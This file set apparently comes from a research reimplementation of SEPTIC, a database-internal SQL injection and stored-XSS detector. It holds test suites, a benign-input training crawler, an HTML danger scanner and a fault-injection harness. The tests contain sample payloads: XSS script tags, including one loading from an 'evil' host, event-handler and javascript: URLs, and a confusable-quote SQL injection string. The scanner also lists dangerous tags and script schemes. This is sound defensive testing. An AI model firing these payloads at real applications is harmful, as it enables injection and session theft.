import (
	"strings"
	"testing"
)

func TestCorpusInvariants(t *testing.T) {
	corpus := Corpus()
	if len(corpus) < 10 {
		t.Fatalf("corpus has %d cases; the demo needs broad class coverage", len(corpus))
	}
	names := make(map[string]bool, len(corpus))
	for _, c := range corpus {
		if c.Name == "" {
			t.Error("case with empty name")
		}
		if names[c.Name] {
			t.Errorf("duplicate case name %q", c.Name)
		}
		names[c.Name] = true
		if c.Kind != KindSQLI && c.Kind != KindStored {
			t.Errorf("%s: invalid kind %v", c.Name, c.Kind)
		}
		if c.Class == "" {
			t.Errorf("%s: empty class", c.Name)
		}
		if c.Request.Path == "" {
			t.Errorf("%s: empty request path", c.Name)
		}
		if c.Description == "" {
			t.Errorf("%s: description required for the demo narration", c.Name)
		}
	}
}

func TestCorpusCoversPaperClasses(t *testing.T) {
	// §II and §III-A name these classes; all must be represented.
	want := []Class{
		ClassEncodedQuote, ClassMimicry, ClassNumericCtx, ClassUnionExtract,
		ClassSecondOrder, ClassStoredXSS, ClassRFI, ClassLFI, ClassOSCI, ClassRCE,
	}
	have := make(map[Class]bool)
	for _, c := range Corpus() {
		have[c.Class] = true
	}
	for _, cls := range want {
		if !have[cls] {
			t.Errorf("class %s missing from corpus", cls)
		}
	}
}

func TestCorpusKindsMatchClasses(t *testing.T) {
	storedClasses := map[Class]bool{
		ClassStoredXSS: true, ClassRFI: true, ClassLFI: true,
		ClassOSCI: true, ClassRCE: true,
	}
	for _, c := range Corpus() {
		if storedClasses[c.Class] != (c.Kind == KindStored) {
			t.Errorf("%s: class %s inconsistent with kind %s", c.Name, c.Class, c.Kind)
		}
	}
}

func TestMismatchCount(t *testing.T) {
	n := MismatchCount()
	if n == 0 {
		t.Fatal("no mismatch cases — the demonstration is about them")
	}
	manual := 0
	for _, c := range Corpus() {
		if c.Mismatch {
			manual++
		}
	}
	if n != manual {
		t.Errorf("MismatchCount = %d, manual count %d", n, manual)
	}
}

// TestEncodedPayloadsCarryNoASCIIMetacharacters: the confusable-quote
// payloads must be clean at the byte level — that is their entire point.
func TestEncodedPayloadsCarryNoASCIIMetacharacters(t *testing.T) {
	for _, c := range Corpus() {
		if c.Class != ClassEncodedQuote && c.Name != "second-order-encoded" {
			continue
		}
		for _, req := range append(c.Setup, c.Request) {
			for name, value := range req.Params {
				if strings.ContainsAny(value, `'";\`) {
					t.Errorf("%s: param %s contains ASCII metacharacters: %q",
						c.Name, name, value)
				}
			}
		}
	}
}

func TestBenignRequestsNonEmpty(t *testing.T) {
	benign := Benign()
	if len(benign) < 5 {
		t.Fatalf("benign set too small: %d", len(benign))
	}
	for _, req := range benign {
		if req.Path == "" {
			t.Error("benign request with empty path")
		}
	}
}

func TestKindString(t *testing.T) {
	if KindSQLI.String() != "sqli" || KindStored.String() != "stored" || KindInvalid.String() != "invalid" {
		t.Error("Kind.String drifted")
	}
}
