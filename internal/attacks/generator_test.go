package attacks

import (
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/sqlparser"
)

func TestGenerateStringContextDeterministic(t *testing.T) {
	a := GenerateStringContext(42, 50)
	b := GenerateStringContext(42, 50)
	if len(a) != 50 || len(b) != 50 {
		t.Fatalf("lengths = %d/%d", len(a), len(b))
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("payload %d differs for same seed: %q vs %q", i, a[i], b[i])
		}
	}
	if c := GenerateStringContext(43, 50); strings.Join(a, "|") == strings.Join(c, "|") {
		t.Error("different seeds produced identical payload streams")
	}
}

func TestGenerateStringContextShapes(t *testing.T) {
	payloads := GenerateStringContext(7, 200)
	var withConfusable, withASCIIQuote, withTerminator int
	for _, p := range payloads {
		if strings.ContainsAny(p, "ʼ’＇′") {
			withConfusable++
		}
		if strings.Contains(p, "'") {
			withASCIIQuote++
		}
		if strings.Contains(p, "-- ") || strings.Contains(p, "#") {
			withTerminator++
		}
	}
	if withConfusable == 0 || withASCIIQuote == 0 || withTerminator == 0 {
		t.Errorf("generator variety too low: confusable=%d ascii=%d term=%d",
			withConfusable, withASCIIQuote, withTerminator)
	}
}

// TestGeneratedNumericPayloadsParse: every numeric-context payload must
// form a parseable query when substituted — duds would silently weaken
// the fuzz oracle.
func TestGeneratedNumericPayloadsParse(t *testing.T) {
	for _, p := range GenerateNumericContext(3, 100) {
		q := "SELECT ts FROM readings WHERE device_id = " + p + " ORDER BY ts DESC LIMIT 10"
		if _, err := sqlparser.Parse(q); err != nil {
			t.Errorf("payload %q yields unparseable query: %v", p, err)
		}
	}
}

// TestConfusablePayloadsDecodeToLiveQuotes: the confusable payloads must
// actually contain characters the DBMS folds to quotes.
func TestConfusablePayloadsDecodeToLiveQuotes(t *testing.T) {
	found := false
	for _, p := range GenerateStringContext(9, 100) {
		if strings.Contains(p, "'") {
			continue // already an ASCII variant
		}
		decoded := sqlparser.DecodeCharset(p)
		if strings.Contains(decoded, "'") {
			found = true
			break
		}
	}
	if !found {
		t.Error("no confusable payload decodes to a live quote")
	}
}
