// Package trainer implements the "septic training module" of §II-E: a
// component external to SEPTIC that drives the training phase. "It works
// like a crawler, navigating in the application looking for forms, to
// then inject benign inputs that eventually are inserted in queries
// transmitted to MySQL."
//
// Applications describe their forms (path + typed parameters); the
// trainer generates deterministic benign inputs for each parameter type
// and serves every form several times, so SEPTIC — running in training
// mode inside the DBMS — observes each query shape with a variety of
// data values.
package trainer

import (
	"fmt"
	"math/rand"
	"strconv"

	"github.com/septic-db/septic/internal/webapp"
)

// ParamKind is the input type of one form field, driving benign value
// generation.
type ParamKind int

// Parameter kinds. Enums start at 1 so the zero value is invalid.
const (
	ParamInvalid ParamKind = iota
	// ParamText is free-form text.
	ParamText
	// ParamNumeric is an integer field (ids, counters).
	ParamNumeric
	// ParamDecimal is a fractional field (measurements).
	ParamDecimal
	// ParamEmail is an e-mail address field.
	ParamEmail
	// ParamName is a person/object name (shorter than ParamText, no
	// spaces guaranteed).
	ParamName
)

// Form is one crawlable entry point of an application.
type Form struct {
	// Path is the handler path.
	Path string
	// Params maps parameter names to their kinds.
	Params map[string]ParamKind
	// Fixed holds parameters that must keep an exact value for the
	// handler to succeed (e.g. an id that must exist).
	Fixed map[string]string
}

// Report summarizes one crawl.
type Report struct {
	// Forms is the number of forms visited.
	Forms int
	// Requests is the number of requests served.
	Requests int
	// Failures lists requests that did not return 200 (training should
	// be clean; failures usually mean a bad form description).
	Failures []string
}

// Crawl visits every form `variants` times with fresh benign inputs.
// Generation is deterministic for a given seed.
func Crawl(app *webapp.App, forms []Form, variants int, seed int64) (*Report, error) {
	if variants < 1 {
		variants = 1
	}
	rng := rand.New(rand.NewSource(seed))
	report := &Report{}
	for _, f := range forms {
		report.Forms++
		for v := 0; v < variants; v++ {
			params := make(map[string]string, len(f.Params)+len(f.Fixed))
			for name, kind := range f.Params {
				params[name] = benignValue(rng, kind, v)
			}
			for name, value := range f.Fixed {
				params[name] = value
			}
			req := webapp.Request{Path: f.Path, Params: params}
			resp := app.Serve(req)
			report.Requests++
			if resp.Status != 200 {
				report.Failures = append(report.Failures,
					fmt.Sprintf("%s -> %d (%v)", req, resp.Status, resp.Err))
			}
		}
	}
	if len(report.Failures) > 0 {
		return report, fmt.Errorf("crawl had %d failing requests (first: %s)",
			len(report.Failures), report.Failures[0])
	}
	return report, nil
}

// benignWords is the vocabulary for text generation: plain prose, no
// metacharacters, so training never teaches SEPTIC an attack shape.
var benignWords = []string{
	"meter", "reading", "basement", "kitchen", "garage", "routine",
	"check", "weekly", "report", "normal", "stable", "sensor",
	"calibrated", "replaced", "filter", "inspection", "ok", "nominal",
}

func benignValue(rng *rand.Rand, kind ParamKind, variant int) string {
	switch kind {
	case ParamText:
		n := 2 + rng.Intn(4)
		out := ""
		for i := 0; i < n; i++ {
			if i > 0 {
				out += " "
			}
			out += benignWords[rng.Intn(len(benignWords))]
		}
		return out
	case ParamNumeric:
		return strconv.Itoa(1 + rng.Intn(999))
	case ParamDecimal:
		// Users type decimal fields both ways ("1300" and "1300.5");
		// the two parse to different item types (INT_ITEM vs REAL_ITEM),
		// i.e. different query models, so training must cover both —
		// alternate deterministically across variants.
		if variant%2 == 0 {
			return strconv.Itoa(1 + rng.Intn(9999))
		}
		return strconv.FormatFloat(float64(rng.Intn(100000))/100, 'f', 2, 64)
	case ParamEmail:
		return benignWords[rng.Intn(len(benignWords))] +
			strconv.Itoa(rng.Intn(100)) + "@example.com"
	case ParamName:
		return benignWords[rng.Intn(len(benignWords))] + strconv.Itoa(rng.Intn(1000))
	default:
		return "x"
	}
}
