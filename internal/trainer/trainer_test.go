package trainer_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/trainer"
	"github.com/septic-db/septic/internal/webapp"
	"github.com/septic-db/septic/internal/webapp/apps"
)

type Form = trainer.Form

// Crawl aliases keep the test bodies concise.
var Crawl = trainer.Crawl

// deployTraining builds a SEPTIC-protected app in training mode.
func deployTraining(t *testing.T, schema []string, build func(webapp.Executor) *webapp.App) (*webapp.App, *core.Septic) {
	t.Helper()
	guard := core.New(core.Config{Mode: core.ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	for _, q := range schema {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("schema: %v", err)
		}
	}
	return build(db), guard
}

func TestCrawlTrainsWaspMon(t *testing.T) {
	app, guard := deployTraining(t, apps.WaspMonSchema(), apps.NewWaspMon)
	report, err := Crawl(app, apps.WaspMonForms(), 3, 1)
	if err != nil {
		t.Fatalf("Crawl: %v", err)
	}
	if report.Forms != len(apps.WaspMonForms()) {
		t.Errorf("forms = %d", report.Forms)
	}
	if report.Requests != report.Forms*3 {
		t.Errorf("requests = %d, want %d", report.Requests, report.Forms*3)
	}
	if guard.Store().Len() == 0 {
		t.Fatal("no models learned")
	}

	// The crawl must cover every query the benign workload later issues:
	// prevention mode with incremental learning OFF must pass it all.
	guard.SetConfig(core.Config{
		Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
		IncrementalLearning: false,
	})
	for _, req := range apps.WaspMonWorkload() {
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			t.Errorf("workload %s failed after crawl training: %v", req, resp.Err)
		}
	}

	// And attacks are still blocked.
	resp := app.Serve(webapp.Request{Path: "/device/view", Params: map[string]string{
		"name": "nothingʼ OR ʼ1ʼ=ʼ1",
	}})
	if !resp.Blocked {
		t.Error("attack not blocked after crawl training")
	}
}

func TestCrawlTrainsAllApps(t *testing.T) {
	cases := []struct {
		name   string
		schema []string
		build  func(webapp.Executor) *webapp.App
		forms  []Form
	}{
		{"addressbook", apps.AddressBookSchema(), apps.NewAddressBook, apps.AddressBookForms()},
		{"refbase", apps.RefbaseSchema(), apps.NewRefbase, apps.RefbaseForms()},
		{"zerocms", apps.ZeroCMSSchema(), apps.NewZeroCMS, apps.ZeroCMSForms()},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			app, guard := deployTraining(t, tc.schema, tc.build)
			if _, err := Crawl(app, tc.forms, 2, 7); err != nil {
				t.Fatalf("Crawl: %v", err)
			}
			if guard.Store().Len() == 0 {
				t.Error("no models learned")
			}
		})
	}
}

func TestCrawlDeterministic(t *testing.T) {
	run := func() int {
		app, guard := deployTraining(t, apps.WaspMonSchema(), apps.NewWaspMon)
		if _, err := Crawl(app, apps.WaspMonForms(), 2, 42); err != nil {
			t.Fatalf("Crawl: %v", err)
		}
		return guard.Store().Len()
	}
	if a, b := run(), run(); a != b {
		t.Errorf("same seed produced %d vs %d models", a, b)
	}
}

func TestCrawlReportsFailures(t *testing.T) {
	app, _ := deployTraining(t, apps.WaspMonSchema(), apps.NewWaspMon)
	bad := []Form{{Path: "/missing-page"}}
	report, err := Crawl(app, bad, 1, 1)
	if err == nil {
		t.Fatal("crawl of a missing page must fail")
	}
	if len(report.Failures) != 1 || !strings.Contains(report.Failures[0], "/missing-page") {
		t.Errorf("failures = %v", report.Failures)
	}
}

// TestBenignValuesAreBenign: generated inputs must never contain SQL or
// markup metacharacters — a crawler that teaches SEPTIC attack shapes
// would poison the model store.
func TestBenignValuesAreBenign(t *testing.T) {
	app, guard := deployTraining(t, apps.WaspMonSchema(), apps.NewWaspMon)
	if _, err := Crawl(app, apps.WaspMonForms(), 5, 99); err != nil {
		t.Fatalf("Crawl: %v", err)
	}
	// No attack shapes: switching to prevention and re-crawling must not
	// block anything.
	guard.SetConfig(core.Config{
		Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
		IncrementalLearning: false,
	})
	report, err := Crawl(app, apps.WaspMonForms(), 5, 123)
	if err != nil {
		t.Fatalf("re-crawl in prevention: %v (failures %v)", err, report.Failures)
	}
	if got := guard.Stats().AttacksFound; got != 0 {
		t.Errorf("crawler inputs triggered %d detections", got)
	}
}

func TestCrawlVariantsFloor(t *testing.T) {
	app, _ := deployTraining(t, apps.WaspMonSchema(), apps.NewWaspMon)
	report, err := Crawl(app, []Form{{Path: "/devices"}}, 0, 1)
	if err != nil {
		t.Fatal(err)
	}
	if report.Requests != 1 {
		t.Errorf("requests = %d, want 1 (variants floor)", report.Requests)
	}
}

// errExec is an Executor that always fails, for failure injection.
type errExec struct{}

func (errExec) Exec(string) (*engine.Result, error) {
	return nil, errors.New("boom")
}

func (errExec) ExecArgs(string, ...engine.Value) (*engine.Result, error) {
	return nil, errors.New("boom")
}

func TestCrawlSurfacesHandlerErrors(t *testing.T) {
	app := webapp.NewApp("broken", errExec{})
	app.Handle("/p", func(c *webapp.Ctx) {
		_, _ = c.Query("SELECT 1")
	})
	report, err := Crawl(app, []Form{{Path: "/p"}}, 2, 1)
	if err == nil {
		t.Fatal("want error from failing backend")
	}
	if len(report.Failures) != 2 {
		t.Errorf("failures = %d, want 2", len(report.Failures))
	}
}
