package htmlcheck

import (
	"testing"
	"testing/quick"
)

func kindsOf(findings []Finding) map[FindingKind]int {
	out := make(map[FindingKind]int)
	for _, f := range findings {
		out[f.Kind]++
	}
	return out
}

func TestScanScriptTag(t *testing.T) {
	// The paper's example input (§II-D2).
	findings := Scan(`<script> alert('Hello!');</script>`)
	if kindsOf(findings)[KindScriptTag] != 1 {
		t.Errorf("findings = %v, want one script-tag", findings)
	}
}

func TestScanCaseAndWhitespaceVariants(t *testing.T) {
	cases := []string{
		`<SCRIPT>alert(1)</SCRIPT>`,
		`<ScRiPt src="http://evil/x.js">`,
		"<script\n>alert(1)</script>",
		`<script/x>alert(1)</script>`,
	}
	for _, c := range cases {
		if !IsDangerous(c) {
			t.Errorf("IsDangerous(%q) = false, want true", c)
		}
	}
}

func TestScanEventHandlers(t *testing.T) {
	cases := []struct {
		in   string
		attr string
	}{
		{`<img src="x" onerror="alert(1)">`, "onerror"},
		{`<body onload=alert(1)>`, "onload"},
		{`<div ONCLICK="go()">`, "onclick"},
		{`<a onmouseover='x()'>hi</a>`, "onmouseover"},
	}
	for _, tt := range cases {
		findings := Scan(tt.in)
		found := false
		for _, f := range findings {
			if f.Kind == KindEventHandler && f.Detail == tt.attr {
				found = true
			}
		}
		if !found {
			t.Errorf("Scan(%q) = %v, want event-handler %s", tt.in, findings, tt.attr)
		}
	}
}

func TestScanScriptURLs(t *testing.T) {
	cases := []string{
		`<a href="javascript:alert(1)">x</a>`,
		`<a href="JaVaScRiPt:alert(1)">x</a>`,
		"<a href=\"java\tscript:alert(1)\">x</a>",
		`<a href=" javascript:alert(1)">x</a>`,
		`<img src="vbscript:msgbox(1)">`,
		`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	}
	for _, c := range cases {
		findings := Scan(c)
		if kindsOf(findings)[KindScriptURL] == 0 {
			t.Errorf("Scan(%q) = %v, want script-url", c, findings)
		}
	}
}

func TestScanDangerousTags(t *testing.T) {
	for _, tag := range []string{"iframe", "object", "embed", "base", "form", "svg", "meta", "link"} {
		in := "<" + tag + ">"
		if !IsDangerous(in) {
			t.Errorf("IsDangerous(%q) = false, want true", in)
		}
	}
}

func TestScanBenignContent(t *testing.T) {
	benign := []string{
		"",
		"Alice Smith",
		"O'Brien & Sons <3",
		"a < b and b > c",
		"plain <b>bold</b> and <i>italic</i> text",
		"<p>paragraph</p>",
		"price < 100 > discount",
		"2 << 4",
		"email@example.com",
		`<a href="https://example.com">link</a>`,
		`<img src="cat.png" alt="a cat">`,
	}
	for _, c := range benign {
		if findings := Scan(c); len(findings) != 0 {
			t.Errorf("Scan(%q) = %v, want none", c, findings)
		}
	}
}

func TestScanEndTagsAndCommentsIgnored(t *testing.T) {
	cases := []string{
		"</script>",
		"<!-- <script>alert(1)</script> commented -->",
	}
	// A comment still contains a literal "<script" sequence; the scanner
	// is error-tolerant like browsers, so the commented script IS
	// reported (mXSS defence: comment contexts can be broken out of).
	if IsDangerous(cases[0]) {
		t.Errorf("bare end tag should be inert")
	}
	if !IsDangerous(cases[1]) {
		t.Errorf("script inside comment should still be flagged (conservative)")
	}
}

func TestScanMultipleFindings(t *testing.T) {
	in := `<iframe src="javascript:bad()"></iframe><img onerror=x src=y>`
	k := kindsOf(Scan(in))
	if k[KindDangerousTag] == 0 || k[KindScriptURL] == 0 || k[KindEventHandler] == 0 {
		t.Errorf("kinds = %v, want all three", k)
	}
}

func TestFindingString(t *testing.T) {
	f := Finding{Kind: KindEventHandler, Tag: "img", Detail: "onerror"}
	if got := f.String(); got != "event-handler in <img>: onerror" {
		t.Errorf("String() = %q", got)
	}
	f = Finding{Kind: KindScriptTag, Tag: "script"}
	if got := f.String(); got != "script-tag: <script>" {
		t.Errorf("String() = %q", got)
	}
}

// TestScanNeverPanics: arbitrary fragments must never panic or loop.
func TestScanNeverPanics(t *testing.T) {
	f := func(s string) bool {
		_ = Scan(s)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Fatal(err)
	}
}

// TestScanTruncatedTags: unterminated markup must not hang the scanner.
func TestScanTruncatedTags(t *testing.T) {
	cases := []string{
		"<",
		"<script",
		"<img src=",
		`<img src="unterminated`,
		"<a href='x",
		"< script>",
	}
	for _, c := range cases {
		_ = Scan(c) // must terminate
	}
	if !IsDangerous("<script") {
		t.Error("truncated <script must still be flagged")
	}
}
