// Package htmlcheck is a small HTML tokenizer used by SEPTIC's stored-XSS
// plugin. The plugin's second step "inserts this input in a web page and
// calls an HTML parser" (paper §II-D2): this package is that parser. It
// scans a text fragment as HTML and reports the constructs that make a
// stored value dangerous when echoed into a page: script tags, event
// handler attributes, script-carrying URLs and other active content.
package htmlcheck

import (
	"fmt"
	"strings"
)

// FindingKind classifies a dangerous construct.
type FindingKind int

// Finding kinds. Enums start at 1 so the zero value is invalid.
const (
	KindInvalid FindingKind = iota
	// KindScriptTag is a <script> element.
	KindScriptTag
	// KindDangerousTag is an element that executes or loads active
	// content: iframe, object, embed, base, meta refresh, svg, ...
	KindDangerousTag
	// KindEventHandler is an on* attribute (onclick, onerror, ...).
	KindEventHandler
	// KindScriptURL is an attribute URL with a javascript:, vbscript: or
	// scriptable data: scheme.
	KindScriptURL
)

// String names the finding kind.
func (k FindingKind) String() string {
	switch k {
	case KindScriptTag:
		return "script-tag"
	case KindDangerousTag:
		return "dangerous-tag"
	case KindEventHandler:
		return "event-handler"
	case KindScriptURL:
		return "script-url"
	default:
		return fmt.Sprintf("FindingKind(%d)", int(k))
	}
}

// Finding is one dangerous construct located in the fragment.
type Finding struct {
	Kind FindingKind
	// Tag is the lower-cased element name the finding occurred in.
	Tag string
	// Detail names the offending attribute or URL, when applicable.
	Detail string
}

// String renders the finding for the SEPTIC event log.
func (f Finding) String() string {
	if f.Detail != "" {
		return fmt.Sprintf("%s in <%s>: %s", f.Kind, f.Tag, f.Detail)
	}
	return fmt.Sprintf("%s: <%s>", f.Kind, f.Tag)
}

// dangerousTags are elements whose mere presence in stored user content
// indicates active-content injection.
var dangerousTags = map[string]bool{
	"script": true, "iframe": true, "object": true, "embed": true,
	"base": true, "form": true, "svg": true, "math": true,
	"link": true, "style": true, "meta": true, "applet": true,
}

// urlAttrs are attributes whose value is a URL and can carry a script
// scheme.
var urlAttrs = map[string]bool{
	"href": true, "src": true, "action": true, "formaction": true,
	"data": true, "poster": true, "background": true, "xlink:href": true,
}

// Scan parses fragment as HTML the way a browser's error-tolerant parser
// would, and returns every dangerous construct found. A nil result means
// the fragment is inert text.
func Scan(fragment string) []Finding {
	var findings []Finding
	s := scanner{input: fragment}
	for {
		tag, ok := s.nextTag()
		if !ok {
			return findings
		}
		name := strings.ToLower(tag.name)
		switch {
		case name == "script":
			findings = append(findings, Finding{Kind: KindScriptTag, Tag: name})
		case dangerousTags[name]:
			findings = append(findings, Finding{Kind: KindDangerousTag, Tag: name})
		}
		for _, attr := range tag.attrs {
			aname := strings.ToLower(attr.name)
			if strings.HasPrefix(aname, "on") && len(aname) > 2 {
				findings = append(findings, Finding{
					Kind:   KindEventHandler,
					Tag:    name,
					Detail: aname,
				})
				continue
			}
			if urlAttrs[aname] && hasScriptScheme(attr.value) {
				findings = append(findings, Finding{
					Kind:   KindScriptURL,
					Tag:    name,
					Detail: aname + "=" + attr.value,
				})
			}
		}
	}
}

// IsDangerous reports whether the fragment contains any active content.
func IsDangerous(fragment string) bool {
	return len(Scan(fragment)) > 0
}

// hasScriptScheme checks a URL for script-executing schemes, tolerating
// the whitespace/control-character obfuscation browsers tolerate
// ("java\tscript:", " javascript:").
func hasScriptScheme(url string) bool {
	cleaned := make([]byte, 0, len(url))
	for i := 0; i < len(url); i++ {
		c := url[i]
		if c <= ' ' { // strip control characters and whitespace like browsers do
			continue
		}
		cleaned = append(cleaned, c)
	}
	lower := strings.ToLower(string(cleaned))
	return strings.HasPrefix(lower, "javascript:") ||
		strings.HasPrefix(lower, "vbscript:") ||
		strings.HasPrefix(lower, "data:text/html")
}

type attribute struct {
	name  string
	value string
}

type tag struct {
	name  string
	attrs []attribute
}

type scanner struct {
	input string
	pos   int
}

// nextTag advances to the next start tag and parses its attributes.
func (s *scanner) nextTag() (tag, bool) {
	for s.pos < len(s.input) {
		if s.input[s.pos] != '<' {
			s.pos++
			continue
		}
		s.pos++
		// Skip end tags, comments and doctype.
		if s.pos < len(s.input) && (s.input[s.pos] == '/' || s.input[s.pos] == '!') {
			continue
		}
		name := s.readName()
		if name == "" {
			continue
		}
		t := tag{name: name}
		for {
			s.skipSpace()
			if s.pos >= len(s.input) || s.input[s.pos] == '>' || s.input[s.pos] == '<' {
				if s.pos < len(s.input) && s.input[s.pos] == '>' {
					s.pos++
				}
				return t, true
			}
			if s.input[s.pos] == '/' {
				s.pos++
				continue
			}
			aname := s.readName()
			if aname == "" {
				s.pos++
				continue
			}
			attr := attribute{name: aname}
			s.skipSpace()
			if s.pos < len(s.input) && s.input[s.pos] == '=' {
				s.pos++
				s.skipSpace()
				attr.value = s.readValue()
			}
			t.attrs = append(t.attrs, attr)
		}
	}
	return tag{}, false
}

func (s *scanner) skipSpace() {
	for s.pos < len(s.input) {
		switch s.input[s.pos] {
		case ' ', '\t', '\n', '\r', '\f':
			s.pos++
		default:
			return
		}
	}
}

// readName reads a tag or attribute name.
func (s *scanner) readName() string {
	start := s.pos
	for s.pos < len(s.input) {
		c := s.input[s.pos]
		if c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' ||
			c == '>' || c == '/' || c == '=' || c == '<' {
			break
		}
		s.pos++
	}
	return s.input[start:s.pos]
}

// readValue reads an attribute value, quoted or bare.
func (s *scanner) readValue() string {
	if s.pos >= len(s.input) {
		return ""
	}
	quote := s.input[s.pos]
	if quote == '"' || quote == '\'' {
		s.pos++
		start := s.pos
		for s.pos < len(s.input) && s.input[s.pos] != quote {
			s.pos++
		}
		v := s.input[start:s.pos]
		if s.pos < len(s.input) {
			s.pos++
		}
		return v
	}
	start := s.pos
	for s.pos < len(s.input) {
		c := s.input[s.pos]
		if c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '>' {
			break
		}
		s.pos++
	}
	return s.input[start:s.pos]
}
