package faultinject

import (
	"fmt"
	"net"
	"time"
)

// Plan scripts the transport faults of one wrapped connection. Offsets
// count bytes from the start of the connection in the relevant
// direction, so the same Plan against the same traffic breaks at the
// same byte every run; Seed drives the latency jitter deterministically.
// A zero field disables its fault.
type Plan struct {
	// Seed makes the jittered latencies reproducible. Two conns with the
	// same Seed and traffic sleep identically.
	Seed uint64

	// ReadLatency / WriteLatency delay every Read / Write call.
	ReadLatency  time.Duration
	WriteLatency time.Duration
	// LatencyJitter adds a deterministic pseudo-random extra delay in
	// [0, LatencyJitter) to each latency sleep.
	LatencyJitter time.Duration

	// TearWriteAt writes bytes up to the offset, then fails the Write and
	// every later one, leaving the connection open: the peer holds a
	// half-received frame forever — the torn-frame / slow-loris fault.
	TearWriteAt int64

	// ResetWriteAt / ResetReadAt close the connection (RST-style, linger
	// zero) once that many bytes have been written / read.
	ResetWriteAt int64
	ResetReadAt  int64

	// CorruptWriteAt XORs the outbound byte at the offset with
	// CorruptXOR (0xFF when zero), desynchronizing the peer's framing.
	CorruptWriteAt int64
	CorruptXOR     byte
}

// Conn wraps a net.Conn and applies a Plan. It is not safe for
// concurrent Read/Write from multiple goroutines on the same direction,
// matching the synchronous request/response discipline of the wire
// protocol.
type Conn struct {
	net.Conn
	plan Plan
	rng  uint64
	rd   int64
	wr   int64
	torn bool
}

// WrapConn applies plan to conn.
func WrapConn(conn net.Conn, plan Plan) *Conn {
	if plan.CorruptXOR == 0 {
		plan.CorruptXOR = 0xFF
	}
	return &Conn{Conn: conn, plan: plan, rng: plan.Seed}
}

// next is splitmix64: a tiny, seedable PRNG so jitter needs no global
// randomness and replays byte-for-byte from the Plan seed.
func (c *Conn) next() uint64 {
	c.rng += 0x9e3779b97f4a7c15
	z := c.rng
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

// delay sleeps the base latency plus deterministic jitter.
func (c *Conn) delay(base time.Duration) {
	if base <= 0 && c.plan.LatencyJitter <= 0 {
		return
	}
	d := base
	if j := c.plan.LatencyJitter; j > 0 {
		d += time.Duration(c.next() % uint64(j))
	}
	if d > 0 {
		time.Sleep(d)
	}
}

// reset closes the connection abruptly: linger zero makes the kernel
// send RST instead of FIN, the "connection reset by peer" fault.
func (c *Conn) reset() {
	if tc, ok := c.Conn.(*net.TCPConn); ok {
		_ = tc.SetLinger(0)
	}
	_ = c.Conn.Close()
}

// Read implements net.Conn with the Plan's read-side faults.
func (c *Conn) Read(p []byte) (int, error) {
	c.delay(c.plan.ReadLatency)
	if at := c.plan.ResetReadAt; at > 0 {
		if c.rd >= at {
			c.reset()
			return 0, fmt.Errorf("%w: reset after reading %d bytes", ErrInjected, c.rd)
		}
		if int64(len(p)) > at-c.rd {
			p = p[:at-c.rd]
		}
	}
	n, err := c.Conn.Read(p)
	c.rd += int64(n)
	if at := c.plan.ResetReadAt; at > 0 && c.rd >= at && err == nil {
		c.reset()
		return n, fmt.Errorf("%w: reset after reading %d bytes", ErrInjected, c.rd)
	}
	return n, err
}

// Write implements net.Conn with the Plan's write-side faults.
func (c *Conn) Write(p []byte) (int, error) {
	c.delay(c.plan.WriteLatency)
	if c.torn {
		return 0, fmt.Errorf("%w: torn connection", ErrInjected)
	}
	if at := c.plan.TearWriteAt; at > 0 && c.wr+int64(len(p)) > at {
		keep := at - c.wr
		if keep < 0 {
			keep = 0
		}
		n, _ := c.Conn.Write(p[:keep])
		c.wr += int64(n)
		c.torn = true
		return n, fmt.Errorf("%w: frame torn at byte %d", ErrInjected, c.wr)
	}
	if at := c.plan.ResetWriteAt; at > 0 && c.wr+int64(len(p)) > at {
		keep := at - c.wr
		if keep < 0 {
			keep = 0
		}
		n, _ := c.Conn.Write(p[:keep])
		c.wr += int64(n)
		c.reset()
		return n, fmt.Errorf("%w: reset after writing %d bytes", ErrInjected, c.wr)
	}
	if at := c.plan.CorruptWriteAt; at > 0 && c.wr <= at-1 && at-1 < c.wr+int64(len(p)) {
		mut := make([]byte, len(p))
		copy(mut, p)
		mut[at-1-c.wr] ^= c.plan.CorruptXOR
		p = mut
	}
	n, err := c.Conn.Write(p)
	c.wr += int64(n)
	return n, err
}

// Dialer returns a dial function that wraps every dialed connection
// with plan — pluggable into wire.WithDialFunc for client-side chaos.
func Dialer(plan Plan) func(addr string) (net.Conn, error) {
	return func(addr string) (net.Conn, error) {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			return nil, err
		}
		return WrapConn(conn, plan), nil
	}
}
