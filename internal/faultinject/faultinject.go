// Package faultinject is the repository's fault-injection harness: the
// controlled way to break the system on purpose so the chaos suite can
// assert that a self-protecting database degrades predictably. SEPTIC's
// whole premise is that protection lives inside the DBMS — which means a
// crash or hang in the protection path is itself a denial of service on
// every client. This package makes those faults reproducible.
//
// Two fault families are provided:
//
//   - Pipeline fault points: the query pipeline (engine stages, SEPTIC's
//     hook) calls Hit(site) at named sites. Unarmed, a hit is one atomic
//     pointer load — cheap enough to stay in the production hot path.
//     Tests Arm a Hook that sleeps, panics or fails at chosen sites.
//
//   - Transport faults: Conn wraps a net.Conn and injects latency, torn
//     frames, connection resets at byte offsets and byte corruption,
//     all driven by a deterministic seed so a failing chaos run replays
//     exactly. FlakyListener injects transient Accept errors.
package faultinject

import (
	"errors"
	"net"
	"sync/atomic"
)

// Pipeline fault-point sites. The names are stable identifiers used by
// chaos tests to target one stage.
const (
	// SiteEngineParse fires before a statement is parsed.
	SiteEngineParse = "engine/parse"
	// SiteEngineValidate fires before catalog validation.
	SiteEngineValidate = "engine/validate"
	// SiteEngineHook fires before the security hook is invoked.
	SiteEngineHook = "engine/hook"
	// SiteEngineExecute fires before the executor runs the statement.
